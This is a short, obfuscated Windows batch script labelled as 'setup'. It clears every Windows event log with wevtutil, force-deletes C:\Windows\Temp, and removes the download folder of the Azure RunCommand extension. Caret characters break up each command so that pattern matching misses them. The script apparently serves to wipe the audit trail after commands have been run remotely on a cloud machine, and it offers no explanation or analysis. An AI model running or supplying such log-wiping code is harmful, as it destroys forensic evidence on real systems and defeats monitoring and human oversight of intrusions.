REM setup 0715 v1
@echo off
set "jdwi=^for /F "tokens=*" %%1 ^in ('^w^e^vtu^t^i^l.exe el') ^D^O w^e^vt^u^til.e^xe ^c^l "%%1""
call %jdwi%
@echo off
set "krks=^del /^f /q C:\^W^i^n^do^w^s\T^emp\*.*"
call %krks%
@echo off
set "afpv=rd /s /^q C:\Pack^age^s\Pl^ug^i^n^s\M^icr^os^o^ft.CPla^t.^C^ore.Run^Co^mm^a^ndWindo^ws\^1.^1.15\Do^w^nlo^a^ds"
call %afpv%
